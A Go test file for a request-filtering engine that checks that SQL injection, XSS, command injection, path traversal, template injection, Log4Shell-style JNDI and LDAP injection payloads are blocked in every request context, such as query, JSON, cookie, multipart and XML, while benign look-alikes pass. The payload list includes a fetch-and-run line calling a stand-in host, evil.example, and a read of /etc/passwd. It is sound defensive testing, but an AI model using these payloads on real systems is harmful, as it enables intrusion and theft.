package filter

import (
	"encoding/json"
	"encoding/xml"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// TestContextMatrix: an attack blocks wherever a backend reads it from,
// not only where the detectors were first written for. Each payload is
// sent in every place an API takes a value: query (also encoded twice),
// form, JSON (also \u-escaped, nested, in an NDJSON line and as a GraphQL
// variable), cookie, multipart field, XML element, a path segment, and a
// text/plain body.
func TestContextMatrix(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	payloads := []string{
		"1' OR '1'='1' --", "-1 union all select null,table_name from information_schema.tables", "1 and sleep(5)#",
		"<svg/onload=alert(1)>", "<img src=x onerror=prompt(document.domain)>", "javascript:alert(document.cookie)",
		";cat /etc/passwd", "$(curl http://evil.example/x.sh|sh)", "127.0.0.1;id",
		"../../../../etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
		"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
		"${jndi:ldap://evil.example/a}", "*)(uid=*))(|(uid=*",
	}
	for _, p := range payloads {
		for _, place := range contextPlaces {
			expectVerdict(t, eng, sendInContext(place, "q", p), fmt.Sprintf("%q in %s", p, place), true)
		}
	}
	// Their look-alikes pass in the same places.
	for _, b := range []string{"O'Reilly's guide to union select", "a <b>bold</b> move", "Tom & Jerry; 5 o'clock", "docs/guide/intro.md", "{{ user.name }}", "price: $100 (approx.)"} {
		for _, place := range contextPlaces {
			expectVerdict(t, eng, sendInContext(place, "q", b), fmt.Sprintf("%q in %s", b, place), false)
		}
	}
}

var contextPlaces = []string{"query", "query2", "form", "json", "json-u", "json-nested", "ndjson", "graphql-var", "cookie", "multipart", "xml", "path", "text"}

// sendInContext builds a request that carries value v, named name where
// the place has names.
func sendInContext(place, name, v string) *http.Request {
	js := func(x any) string { b, _ := json.Marshal(x); return string(b) }
	switch place {
	case "query2":
		return newReq("GET", "http://app.example.com/search?"+name+"="+url.QueryEscape(url.QueryEscape(v)), "", "")
	case "json-u":
		var b strings.Builder
		for _, r := range v {
			if r < 0x80 && (r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9') {
				b.WriteRune(r)
			} else {
				fmt.Fprintf(&b, `\u%04x`, r)
			}
		}
		return newReq("POST", "http://app.example.com/api", "application/json", `{"`+name+`":"`+b.String()+`"}`)
	case "json-nested":
		return newReq("POST", "http://app.example.com/api", "application/json", js(map[string]any{"data": map[string]any{"items": []any{map[string]string{name: v}}}}))
	case "ndjson":
		return newReq("POST", "http://app.example.com/api", "application/x-ndjson", `{"a":1}`+"\n"+js(map[string]string{name: v})+"\n")
	case "graphql-var":
		return newReq("POST", "http://app.example.com/graphql", "application/json", js(map[string]any{"query": "query Q($v: String) { item(id: $v) { name } }", "variables": map[string]string{"v": v}}))
	case "cookie":
		r := newReq("GET", "http://app.example.com/", "", "")
		r.Header.Set("Cookie", "sid=abc; "+name+"="+url.QueryEscape(v))
		return r
	case "multipart":
		body := "--b1\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + v + "\r\n--b1--\r\n"
		return newReq("POST", "http://app.example.com/api", "multipart/form-data; boundary=b1", body)
	case "xml":
		var esc strings.Builder
		_ = xml.EscapeText(&esc, []byte(v))
		return newReq("POST", "http://app.example.com/api", "application/xml", "<r><"+name+">"+esc.String()+"</"+name+"></r>")
	case "path":
		return newReq("GET", "http://app.example.com/api/items/"+url.PathEscape(v)+"/details", "", "")
	case "text":
		return newReq("POST", "http://app.example.com/api", "text/plain", v)
	}
	return sendIn(place, name, v)
}
